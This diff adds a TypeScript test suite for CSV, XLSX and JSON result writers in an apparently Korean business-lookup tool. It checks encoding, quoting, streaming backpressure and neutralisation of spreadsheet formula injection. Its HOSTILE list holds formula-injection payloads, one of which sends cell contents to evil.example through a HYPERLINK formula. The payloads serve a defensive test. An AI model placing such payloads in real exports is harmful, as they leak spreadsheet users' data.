@@ -1,0 +1,158 @@
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { PassThrough, Writable } from 'node:stream';
+import { parse } from 'csv-parse/sync';
+import ExcelJS from 'exceljs';
+import { neutralise } from './formula-guard.ts';
+import { writeCsv, writeJson, writeXlsx, type ResultRow } from './write-results.ts';
+
+const T = { timeout: 20_000 };
+const COLUMNS = ['input:사업자등록번호', 'input:상호', 'input:비고', 'biz_status', 'bounce_prob', 'checked'];
+const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"클릭")', '+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];
+
+function rows(): ResultRow[] {
+  return [
+    { 'input:사업자등록번호': '124-81-00998', 'input:상호': '(주)한빛, "본점"', 'input:비고': '첫 줄\r\n둘째 줄', biz_status: 'active', bounce_prob: 0.125, checked: true },
+    ...HOSTILE.map((h, i) => ({ 'input:사업자등록번호': '2208162517', 'input:상호': h, 'input:비고': `-${i}.5`, biz_status: 'closed', bounce_prob: -1.5, checked: null })),
+    { 'input:사업자등록번호': '', biz_status: 'invalid', bounce_prob: null },
+  ];
+}
+
+async function* slowly<T>(items: T[]): AsyncGenerator<T> {
+  for (const item of items) {
+    await new Promise((r) => setImmediate(r));
+    yield item;
+  }
+}
+
+function sink(): { out: PassThrough; bytes: () => Buffer } {
+  const out = new PassThrough();
+  const chunks: Buffer[] = [];
+  out.on('data', (c: Buffer) => chunks.push(c));
+  return { out, bytes: () => Buffer.concat(chunks) };
+}
+
+test('the neutralising rule', () => {
+  for (const h of HOSTILE) assert.equal(neutralise(h), `'${h}`);
+  for (const s of ['한빛', '1248100998', ' =1', '', "'=1"]) assert.equal(neutralise(s), s);
+});
+
+test('CSV: UTF-8 BOM, CRLF, RFC 4180 quoting, formulas neutralised, and it parses back', T, async () => {
+  const { out, bytes } = sink();
+  await writeCsv(slowly(rows()), COLUMNS, out);
+  const buf = bytes();
+  assert.deepEqual([...buf.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
+  const text = buf.toString('utf8').slice(1);
+  assert.ok(text.startsWith('input:사업자등록번호,input:상호,input:비고,biz_status,bounce_prob,checked\r\n'));
+  const back = parse(text, { relax_column_count: false }) as string[][];
+  assert.equal(back.length, 1 + rows().length);
+  assert.deepEqual(back[1], ['124-81-00998', '(주)한빛, "본점"', '첫 줄\r\n둘째 줄', 'active', '0.125', 'true']);
+  HOSTILE.forEach((h, i) => {
+    // hostile text gets the apostrophe, text that only looks numeric too, our own numbers stay numbers
+    assert.deepEqual(back[2 + i]!.slice(1, 5), [`'${h}`, `'-${i}.5`, 'closed', '-1.5']);
+  });
+  assert.deepEqual(back.at(-1), ['', '', '', 'invalid', '', '']);
+});
+
+test('XLSX: read back with exceljs, strings never formulas, numbers numeric, header bold and frozen', T, async () => {
+  const { out, bytes } = sink();
+  const long = 'x'.repeat(40_000);
+  await writeXlsx(slowly([...rows(), { 'input:상호': long, 'input:비고': 'bell\u0007char' }]), COLUMNS, out);
+  const book = new ExcelJS.Workbook();
+  await book.xlsx.load(bytes() as unknown as ArrayBuffer);
+  const sheet = book.worksheets[0]!;
+  assert.equal(sheet.getRow(1).getCell(2).value, 'input:상호');
+  assert.equal(sheet.getRow(1).font?.bold ?? sheet.getRow(1).getCell(1).font?.bold, true);
+  assert.equal(sheet.views[0]?.state, 'frozen');
+  assert.equal(sheet.getRow(2).getCell(2).value, '(주)한빛, "본점"');
+  assert.equal(sheet.getRow(2).getCell(5).value, 0.125);
+  HOSTILE.forEach((h, i) => {
+    const row = sheet.getRow(3 + i);
+    const cell = row.getCell(2);
+    assert.notEqual(cell.type, ExcelJS.ValueType.Formula);
+    // XML cannot carry a bare CR or TAB-less control; compare what survives
+    assert.equal(String(cell.value).replace(/\r\n?/g, '\n'), `'${h}`.replace(/\r\n?/g, '\n'));
+    assert.equal(row.getCell(3).value, `'-${i}.5`);
+    assert.equal(row.getCell(5).value, -1.5);
+  });
+  let formulas = 0;
+  sheet.eachRow((row) => row.eachCell((cell) => void (cell.type === ExcelJS.ValueType.Formula && formulas++)));
+  assert.equal(formulas, 0);
+  const last = sheet.getRow(sheet.rowCount);
+  assert.equal(String(last.getCell(2).value).length, 32_767);
+  assert.equal(last.getCell(3).value, 'bellchar');
+});
+
+test('JSON: an array of objects with the given columns, and NDJSON', T, async () => {
+  const a = sink();
+  await writeJson(slowly(rows()), COLUMNS, a.out);
+  const back = JSON.parse(a.bytes().toString('utf8')) as Record<string, unknown>[];
+  assert.equal(back.length, rows().length);
+  assert.deepEqual(Object.keys(back[0]!), COLUMNS);
+  // JSON is data: no apostrophes
+  assert.equal(back[1]!['input:상호'], HOSTILE[0]);
+  assert.equal(back.at(-1)!['input:상호'], null);
+
+  const n = sink();
+  await writeJson(slowly(rows()), COLUMNS, n.out, { format: 'ndjson' });
+  const lines = n.bytes().toString('utf8').trimEnd().split('\n');
+  assert.deepEqual(lines.map((l) => JSON.parse(l) as unknown), back);
+
+  const empty = sink();
+  await writeJson([], COLUMNS, empty.out);
+  assert.deepEqual(JSON.parse(empty.bytes().toString('utf8')), []);
+});
+
+/** A client reading 1 KB at a time; records the most the writer ever left waiting in it. */
+function slowClient() {
+  let peak = 0;
+  let total = 0;
+  const out = new Writable({
+    highWaterMark: 1024,
+    write(chunk: Buffer, _e, cb) {
+      total += chunk.length;
+      setImmediate(cb);
+    },
+  });
+  const watch = setInterval(() => (peak = Math.max(peak, out.writableLength)), 0);
+  return { out, peak: () => peak, total: () => total, stop: () => clearInterval(watch) };
+}
+
+function* many(n: number): Generator<ResultRow> {
+  for (let i = 0; i < n; i++) yield { 'input:사업자등록번호': '1248100998', 'input:상호': `업체 ${i}`, 'input:비고': '서울특별시 강남구 테헤란로 152, 10층', biz_status: 'active', bounce_prob: i / n, checked: true };
+}
+
+test('writers wait for a slow client instead of buffering the whole download', T, async () => {
+  for (const write of [writeCsv, writeJson, writeXlsx]) {
+    const client = slowClient();
+    let pulled = 0;
+    const source = (function* () {
+      for (const r of many(30_000)) {
+        pulled++;
+        yield r;
+      }
+    })();
+    const done = write(source, COLUMNS, client.out);
+    await new Promise((r) => setTimeout(r, 100));
+    // early on, the writer has pulled only what fits in its buffers, not all 30,000 rows
+    assert.ok(pulled < 30_000, `${write.name} pulled ${pulled} rows at once`);
+    await done;
+    client.stop();
+    assert.equal(pulled, 30_000);
+    assert.ok(client.peak() < 1024 * 1024, `${write.name} left ${client.peak()} bytes waiting`);
+  }
+});
+
+test('a client that goes away fails the writer instead of leaving it waiting', T, async () => {
+  for (const write of [writeCsv, writeJson, writeXlsx]) {
+    const out = new Writable({
+      highWaterMark: 1024,
+      write(_c, _e, cb) {
+        setTimeout(() => out.destroy(), 5);
+        cb();
+      },
+    });
+    out.on('error', () => {});
+    await assert.rejects(write(many(200_000), COLUMNS, out), `${write.name} should fail`);
+  }
+});
